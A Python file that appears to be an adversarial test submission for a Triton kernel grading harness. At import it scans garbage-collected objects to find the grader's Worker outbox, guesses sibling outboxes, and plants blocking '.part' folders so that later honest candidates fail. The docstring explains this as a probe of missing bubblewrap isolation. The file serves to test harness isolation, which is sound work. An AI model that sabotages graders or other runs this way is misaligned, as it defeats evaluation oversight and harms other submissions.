"""relu: plants a folder where the next candidate's process will write its first output, so that an
honest candidate judged after it fails. Without bubblewrap every candidate process runs as the same
user and sees the host's files, and on the CPU the spare process for the next candidate, with its
outbox, exists while this one runs. It looks for that outbox by listing the folder of outboxes and by
counting on from its own outbox's name. Whatever it planted poisons its own output too; what it
found is printed for the test."""

import torch
import torch.nn as nn
import triton
import triton.language as tl

_sys = torch.hub.sys
_os = _sys.modules["os"]
_gc = _sys.modules["gc"]


def _plant():
    mine = next((o.job["outbox"] for o in _gc.get_objects()
                 if type(o).__name__ == "Worker" and isinstance(getattr(o, "job", None), dict)), None)
    if mine is None:
        return ["no outbox found"]
    parent, name = _os.path.split(mine)
    try:
        siblings = [_os.path.join(parent, s) for s in _os.listdir(parent)]
    except OSError:
        siblings = []
    number = int(name.split("-")[0]) if name.split("-")[0].isdigit() else 0
    siblings += [_os.path.join(parent, f"{n:04d}") for n in range(number + 1, number + 4)]
    planted = []
    for folder in siblings:
        if folder == mine:
            continue
        try:
            _os.makedirs(_os.path.join(folder, "set0-1-0.bin.part"))
            planted.append(folder)
        except OSError:
            pass
    return planted


PLANTED = _plant()
print("PLANTED", PLANTED, flush=True)


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        y = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        if PLANTED:
            y.fill_(1e6)
        return y
